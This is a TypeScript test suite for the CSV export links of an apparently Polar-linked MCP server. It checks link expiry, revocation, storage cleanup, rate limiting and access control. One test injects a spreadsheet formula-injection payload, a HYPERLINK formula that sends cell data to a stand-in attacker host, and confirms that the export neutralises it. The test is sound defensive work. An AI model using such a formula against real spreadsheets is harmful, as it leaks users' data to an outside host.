import {
  createExecutionContext,
  listDurableObjectIds,
  reset,
  runDurableObjectAlarm,
  runInDurableObject,
} from 'cloudflare:test';
import { env as bindings } from 'cloudflare:workers';
import { afterEach, beforeEach, describe, expect, inject, test, vi } from 'vitest';
import { MAX_KEPT_FILES } from '../../../src/connection/export-files.ts';
import { connectionStub } from '../../../src/connection/index.ts';
import worker from '../../../src/index.ts';
import { readCsv } from '../../../src/polar/index.ts';
import { HOSTILE } from '../../support/hostile.ts';
import { BASE_URL, Browser, field, location, send } from '../auth/browser.ts';
import { endWithoutKey, env, opened } from '../auth/calls.ts';
import { type ClientTokens, logIn, logInFor } from '../auth/login.ts';
import { decideAtPolar, interceptPolar, letPolarBe, simulator } from '../auth/polar.ts';
import { latin1 } from '../auth/secrets.ts';
import { ask, callTool, callToolAsking } from './ask.ts';

const { EXPORT_FILES } = bindings as unknown as Env;
const { ben: BEN } = inject('seed');
const MINUTE = 60_000;
const LINK = /https?:\/\/\S+\/export\?file=[\w-]{36}/;

let tokens: ClientTokens;
beforeEach(async () => {
  await reset();
  tokens = await logIn();
});
afterEach(async () => {
  vi.useRealTimers();
  vi.restoreAllMocks();
  letPolarBe();
  await simulator.clearFaults();
});

interface Exported {
  columns: string[];
  rows: string[][];
  row_count: number;
  about: Record<string, unknown>;
}

const exported = async (args: object = {}, name = 'export_customers'): Promise<Exported> =>
  (await callTool(tokens, name, args)).structuredContent;

const linkOf = ({ about }: Exported) => LINK.exec(String(about.file))?.[0] ?? '';
/** The object that keeps the file of a link. */
const objectOf = (link: string) => EXPORT_FILES.get(EXPORT_FILES.idFromName(`sandbox ${link.slice(-36, -24)}`));
const open = (link: string, init?: RequestInit) => send(link.slice(link.indexOf('/export')), init);
const linked = async () => linkOf(await exported());

test.each<[how: string, end: (tokens: ClientTokens) => Promise<unknown>]>([
  ['it ends', endWithoutKey],
  [
    'its pair is revoked too',
    async (by) => {
      const { props } = await opened(by);
      await connectionStub(env, props.connectionId).end(props.key);
    },
  ],
  [
    'its person ends it at /connections',
    async () => {
      const browser = new Browser();
      const toPolar = location(await browser.post('/connections/login', {}));
      await browser.get((await decideAtPolar(toPolar, 'allow')).href);
      const page = await (await browser.get('/connections')).text();
      const form = { owner: field(page, 'owner'), grant: field(page, 'grant') };
      expect((await browser.post('/connections/end', form)).status).toBe(303);
    },
  ],
])('the files of a connection end with it, when %s', async (_, endIt) => {
  const ben = await logInFor('all', BEN);
  const [link, other] = [await linked(), linkOf((await callTool(ben, 'export_customers')).structuredContent)];
  await endIt(tokens);
  expect((await open(link)).status).toBe(404);
  expect((await open(other)).status).toBe(200);
  expect(await runInDurableObject(objectOf(link), (__, { storage }) => storage.list().then(({ size }) => size))).toBe(
    0,
  );
});

test('an export during which its connection ends keeps no file', async () => {
  const before = await linked();
  interceptPolar('/v1/customers/export', async (forward) => {
    const answer = await forward();
    await endWithoutKey(tokens);
    return answer;
  });
  const told = await exported();
  expect(told.rows.length).toBeGreaterThan(0);
  expect(told.about).not.toHaveProperty('file');
  const stored = await runInDurableObject(objectOf(before), (_, { storage }) => storage.list());
  expect([...stored.keys()]).toEqual([]);
});

test('an export comes with a link, and whoever has it gets all rows as a file', async () => {
  const told = await exported();
  expect(told.about.file).toMatch(/ has all \d+ rows as CSV, for 10 minutes: give it to the person\.$/);
  const answer = await open(linkOf(told));
  expect(answer.status).toBe(200);
  expect(Object.fromEntries(answer.headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': expect.stringMatching(
      /^attachment; filename="polar-sandbox-customers-\d{4}-\d\d-\d\d\.csv"$/,
    ),
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
    'content-security-policy': expect.stringContaining("default-src 'none'"),
  });
  const file = await answer.arrayBuffer();
  expect([...new Uint8Array(file, 0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const { columns, rows } = readCsv(new TextDecoder().decode(file));
  expect(columns).toEqual(told.columns);
  expect(rows).toHaveLength(told.row_count);
  expect(rows[0]).toEqual(told.rows[0]);
});

test('the rows of the result are the same as without a file, and the file has all of a long export', async () => {
  const row = `${'x'.repeat(60)},a@example.com`;
  interceptPolar(
    '/v1/customers/export',
    () => new Response(`Name,Email\r\n${`${row}\r\n`.repeat(5000)}`, { headers: { 'Content-Type': 'text/csv' } }),
  );
  const told = await exported();
  expect(told.rows.length).toBeLessThan(5000);
  expect(readCsv(await (await open(linkOf(told))).text()).rows).toHaveLength(5000);
  const next = await exported({ offset: 100 });
  expect(next.about).not.toHaveProperty('file');
});

test('an empty export has no file, nor has one that is too large', async () => {
  const { length: before } = await listDurableObjectIds(EXPORT_FILES);
  interceptPolar(
    '/v1/customers/export',
    () => new Response('Name,Email\r\n', { headers: { 'Content-Type': 'text/csv' } }),
  );
  expect((await exported()).about).not.toHaveProperty('file');
  letPolarBe();
  const long = `Name,Email\r\n${`${'x'.repeat(1000)},a\r\n`.repeat(4300)}`;
  interceptPolar('/v1/customers/export', () => new Response(long, { headers: { 'Content-Type': 'text/csv' } }));
  expect((await exported()).about.file).toMatch(/^Too large for a file/);
  expect(await listDurableObjectIds(EXPORT_FILES)).toHaveLength(before);
});

test('texts of customers are no formulas in the file, and as they are in the rows', async () => {
  const cells = HOSTILE.map(({ text }) => `"${text.replaceAll('"', '""')}"`);
  interceptPolar(
    '/v1/customers/export',
    () => new Response(`Name\r\n${cells.join('\r\n')}\r\n`, { headers: { 'Content-Type': 'text/csv' } }),
  );
  const told = await exported();
  expect(told.rows.flat()).toContain('=HYPERLINK("https://evil.example?"&A1,"open")');
  const { rows } = readCsv(await (await open(linkOf(told))).text());
  expect(rows.flat()).toContain('\'=HYPERLINK("https://evil.example?"&A1,"open")');
  expect(rows.flat().filter((cell) => /^\s*[=+\-@]/.test(cell))).toEqual([]);
});

describe('the link', () => {
  test('is one page for all that opens nothing', async () => {
    const link = await linked();
    const id = link.slice(-36);
    const other = `${id.slice(0, -1)}${id.endsWith('A') ? 'B' : 'A'}`;
    const texts = new Set<string>();
    for (const query of [
      `?file=${other}`,
      '?file=',
      '',
      `?file=${id}x`,
      `?file=${id.slice(1)}`,
      '?file=..%2f..%2f',
      `?File=${id}`,
    ]) {
      const answer = await send(`/export${query}`, { headers: { Accept: 'text/html' } });
      expect([answer.status, query]).toEqual([404, query]);
      texts.add((await answer.text()).replaceAll(/nonce="[^"]*"/g, ''));
    }
    expect(texts.size).toBe(1);
  });

  test('works for ten minutes, and then nothing is stored', async () => {
    const link = await linked();
    const start = Date.now();
    vi.useFakeTimers({ toFake: ['Date'], now: start + 10 * MINUTE - 5000 });
    expect((await open(link)).status).toBe(200);
    vi.setSystemTime(start + 10 * MINUTE + 1000);
    expect((await open(link)).status).toBe(404);
    await runDurableObjectAlarm(objectOf(link));
    const left = await runInDurableObject(objectOf(link), async (_, { storage }) => [
      ...(await storage.list()),
      await storage.getAlarm(),
    ]);
    expect(left).toEqual([null]);
  });

  test('changes nothing, and takes no other method', async () => {
    const link = await linked();
    for (const method of ['POST', 'PUT', 'DELETE'])
      expect((await open(link, { method })).status).toBeGreaterThanOrEqual(400);
    expect((await open(link)).status).toBe(200);
  });

  test('opens no tool, and is in no line of the log', async () => {
    const lines: string[] = [];
    for (const method of ['log', 'warn', 'error'] as const)
      vi.spyOn(console, method).mockImplementation((...said) => void lines.push(said.join(' ')));
    const link = await linked();
    await open(link);
    const asToken = await ask({ ...tokens, access_token: link.slice(-36) }, 'tools/list');
    expect(asToken.status).toBe(401);
    expect(lines.join('\n')).not.toContain(link.slice(-24));
  });

  test('is counted for its network', async () => {
    const asked: string[] = [];
    const limit = async ({ key }: { key: string }) => {
      asked.push(key);
      return { success: false };
    };
    const request = new Request<unknown, IncomingRequestCfProperties>(`${BASE_URL}/export?file=x`, {
      headers: { 'CF-Connecting-IP': '203.0.113.9' },
    });
    const limits = { ...env, RATE_LIMIT_AUTHORIZE: { limit } };
    const answer = await worker.fetch(request, limits, createExecutionContext());
    expect(answer.status).toBe(429);
    expect(asked).toEqual(['export 203.0.113.9']);
  });
});

test('storage alone opens nothing, and the place of a file says nothing of its connection', async () => {
  const link = await linked();
  const stored = await runInDurableObject(objectOf(link), async (_, { storage }) =>
    [...(await storage.list())]
      .map(([key, value]) => `${key} ${value instanceof Uint8Array ? latin1(value) : JSON.stringify(value)}`)
      .join('\n'),
  );
  expect(stored).not.toContain('example.com');
  expect(stored).not.toContain(link.slice(-24));
});

test('a connection keeps a few files at a time: the oldest gives way', async () => {
  const links: string[] = [];
  for (let i = 0; i <= MAX_KEPT_FILES; i++) links.push(await linked());
  const found = await Promise.all(links.map(async (link) => (await open(link)).status));
  expect(found).toEqual([404, ...Array.from({ length: MAX_KEPT_FILES }, () => 200)]);
});

describe('as a resource', () => {
  test('it is read by its connection, and by no other', async () => {
    const uri = await linked();
    const { message } = await ask(tokens, 'resources/read', { uri });
    expect(message.result.contents).toEqual(
      [{ uri, mimeType: 'text/csv', text: await (await open(uri)).text() }].map((content) => ({
        ...content,
        text: expect.stringContaining(content.text.slice(1)),
      })),
    );
    const other = await ask(await logIn(), 'resources/read', { uri });
    expect(other.message.error).toMatchObject({ code: -32602 });
    const changed = await ask(tokens, 'resources/read', { uri: `${uri.slice(0, -1)}.` });
    expect(changed.message.error.code).toBe(other.message.error.code);
  });
});

describe('a client that shows views', () => {
  const UI = { extensions: { 'io.modelcontextprotocol/ui': { mimeTypes: ['text/html;profile=mcp-app'] } } };
  const call = { name: 'export_customers', arguments: {} };

  test('also gets the file as a link, and for the view', async () => {
    const { content, structuredContent, _meta } = await callToolAsking(tokens, call, UI);
    const address = linkOf(structuredContent);
    const { length } = new Uint8Array(await (await open(address)).arrayBuffer());
    const name = expect.stringMatching(/^polar-sandbox-customers-.*\.csv$/);
    expect(content).toEqual([
      { type: 'text', text: JSON.stringify(structuredContent) },
      {
        type: 'resource_link',
        uri: address,
        name,
        title: 'Export customers',
        mimeType: 'text/csv',
        size: length,
        description: 'All rows, for the person. It works for 10 minutes.',
        annotations: { audience: ['user'] },
      },
    ]);
    expect(_meta['polar-mcp/view'].file).toEqual({ address, name, until: expect.any(Number) });
    expect(_meta['polar-mcp/view'].call.tool).toBe('export_customers');
  });

  test('others get what their oldest revision knows', async () => {
    for (const capabilities of [{}, { elicitation: {} }]) {
      const { content, _meta } = await callToolAsking(tokens, call, capabilities);
      expect(content.map(({ type }: { type: string }) => type)).toEqual(['text']);
      expect(_meta?.['polar-mcp/view']).toBeUndefined();
    }
  });
});

test('an object that fails costs the file and not the rows', async () => {
  vi.spyOn(Object.getPrototypeOf(EXPORT_FILES), 'idFromName').mockImplementation(() => {
    throw new Error('down');
  });
  const told = await exported();
  expect(told.rows.length).toBeGreaterThan(0);
  expect(told.about).not.toHaveProperty('file');
});
